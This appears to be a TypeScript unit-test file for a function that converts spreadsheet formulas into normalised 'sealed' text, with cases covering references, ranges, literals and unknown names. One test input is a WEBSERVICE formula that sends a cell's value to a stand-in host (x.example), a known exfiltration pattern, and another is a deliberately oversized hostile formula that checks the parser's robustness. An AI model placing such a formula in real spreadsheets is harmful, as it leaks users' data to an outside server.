import { formulaText, type References } from '../../src/submission/seal/sealedFormula';

/** Rows 1 to 9 of columns A to C are sealed. */
const references: References = {
  nameOf: (sheet, address) =>
    sheet === null && /^[ABC][1-9]$/.test(address) ? `r${address.slice(1)}[${address[0]!}]` : null,
  coversRange: (sheet) => sheet === null,
};
const sealed = (formula: string, result: string | number = 5): string => formulaText(formula, result, references);

test.each([
  ['=A1/B1*100', '="r1[A]/r1[B]*100"'],
  ['= $A$1 / b1 ', '="r1[A]/r1[B]"'],
  ['=IF(AND(ISNUMBER(A1),ISNUMBER(B1)),A1-B1,"")', '="IF(AND(ISNUMBER(r1[A]),ISNUMBER(r1[B])),r1[A]-r1[B],\\"\\")"'],
  ['=_xlfn.sum(A1:A3)', '="SUM(r1[A]:r3[A])"'],
  ['=A1+Z1', '="r1[A]+?"#5'],
  ["=A1+'Năm 2017'!A1", '="r1[A]+?"#5'],
  ['=A1*TyLe', '="r1[A]*TYLE"#5'],
  ['=A1+NOW()', '="r1[A]+NOW()"#5'],
  ['=SUM(A:A)', '="SUM(A:A)"#5'],
  ['=SUM(1:3)', '="SUM(1:3)"#5'],
  ['=IF(A1="A2","A3",1.50)', '="IF(r1[A]=\\"A2\\",\\"A3\\",1.5)"'],
  ['=LOG10(A1)', '="LOG10(r1[A])"#5'],
  ['=1E10+A1', '="10000000000+r1[A]"'],
  ['=1E12+A2', '="1000000000000+r2[A]"'],
  ['=ABCD12+A1', '="ABCD12+r1[A]"#5'],
  ['=WXYZ13+A2', '="WXYZ13+r2[A]"#5'],
  ['=WEBSERVICE("http://x.example/?"&A1)', '="WEBSERVICE(\\"http://x.example/?\\"&r1[A])"#5'],
])('%s', (formula, text) => {
  expect(sealed(formula)).toBe(text);
  // Once more: the shape is known by now.
  expect(sealed(formula)).toBe(text);
});

test('formulas of one shape keep their own addresses', () => {
  for (let row = 1; row <= 9; row += 1)
    expect(sealed(`=(C${row}/A${row}-1)*100`)).toBe(`="(r${row}[C]/r${row}[A]-1)*100"`);
});

test('a sealed result holds twelve digits', () => {
  expect(sealed('=Z1', 0.1 + 0.2)).toBe('="?"#0.3');
  expect(sealed('=Z1', 'x')).toBe('="?"#"x"');
});

test('a hostile formula is read to its end', () => {
  expect(sealed(`=${'A1+'.repeat(2_500)}${"'".repeat(2_000)}${'('.repeat(2_000)}`)).toContain('#5');
});
